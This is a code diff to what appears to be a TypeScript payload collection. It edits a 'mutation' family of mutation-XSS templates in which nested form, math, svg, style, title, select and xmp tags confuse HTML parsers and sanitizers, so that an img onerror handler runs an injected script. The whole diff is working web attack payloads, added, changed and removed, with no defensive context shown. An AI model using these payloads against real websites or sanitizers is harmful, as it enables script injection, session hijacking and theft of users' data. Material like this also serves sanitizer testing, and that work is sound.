@@ -4,13 +4,14 @@ import { family, markup } from "./payload.ts";
 
 export const mutation = family("mutation", {
   "form-in-math": markup(
-    ({ strike }) => `<form><math><mtext></form><form><mglyph><style></math><img src="data:," onerror="${strike}">`,
+    ({ strike }) =>
+      `<form><math><mtext></form><form><mglyph><style></math><img src="data:," onerror="${strike}"></style>`,
   ),
   "style-in-svg": markup(
     ({ strike }) => `<svg></p><style><a id="</style><img src=data:, onerror='${strike.replaceAll("'", "&#39;")}'>">`,
   ),
-  "title-in-svg": markup(
-    ({ strike }) => `<svg><title><style><img src="data:," onerror="${strike}"></style></title></svg>`,
+  "title-text": markup(
+    ({ strike }) => `<title><a rel="</title><img src=data:, onerror='${strike.replaceAll("'", "&#39;")}'>"></title>`,
   ),
   "comment-in-noscript": markup(
     ({ strike }) =>
@@ -19,10 +20,6 @@ export const mutation = family("mutation", {
   "table-in-math": markup(
     ({ strike }) =>
       `<math><mtext><table><mglyph><style><![CDATA[</style><img title="]]&gt;&lt;/mglyph&gt;" src="data:," onerror="${strike}">`,
-  ),
-  "select-breakout": markup(
-    ({ strike }) =>
-      `<select><template><style><!--</style><a rel="--></style></template></select><img src=data:, onerror='${strike.replaceAll("'", "&#39;")}'>">`,
   ),
   "xmp-text": markup(
     ({ strike }) => `<xmp><p title="</xmp><img src=data:, onerror='${strike.replaceAll("'", "&#39;")}'>"></xmp>`,
